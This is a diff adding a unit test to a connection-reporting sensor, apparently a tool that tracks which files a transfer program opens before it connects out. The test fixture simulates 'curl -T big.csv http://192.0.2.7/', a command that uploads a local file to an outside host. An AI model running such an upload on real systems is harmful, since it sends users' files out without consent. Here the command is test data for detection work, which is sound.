@@ -111,6 +111,23 @@ TEST_F(ConnectionReporterTest, WhatATransferProgramSendsWasToldWhenItOpenedTheFi
   EXPECT_THAT(ToldOfConnections(), SizeIs(1)) << "a refusal is news";
 }
 
+// On a busy machine the transfer program is let through, and connected, before its file has been inspected.
+TEST_F(ConnectionReporterTest, ATransferThatIsToldLateIsToldOnce) {
+  bench.AddFile("/home/big.csv", "slow");
+  bench.AddProcess(8, "/usr/bin/curl", "curl -T big.csv http://192.0.2.7/");
+  bench.Open(8, "/home/big.csv");
+  auto attempt = Attempt(1);
+  attempt.process = {8, 80};
+  sensor.OnAttempt(attempt);
+  connections.Step();
+  ASSERT_TRUE(bench.pipeline.FinishOneLateAccess({}));
+  opened = bench.Told().size();
+  sensor.OnTraffic({.connection = 1, .process = {8, 80}, .server_name = {}, .bytes_sent = 9, .closed = true});
+  connections.Finish();
+  EXPECT_EQ(opened, 2U) << "the fixture's own read, and the late one";
+  EXPECT_THAT(ToldOfConnections(), IsEmpty());
+}
+
 TEST_F(ConnectionReporterTest, AThreadOfItsOwnTellsAtOnceAndWhatIsLeftAtItsEnd) {
   sensor.OnAttempt(Attempt(0, true));
   {
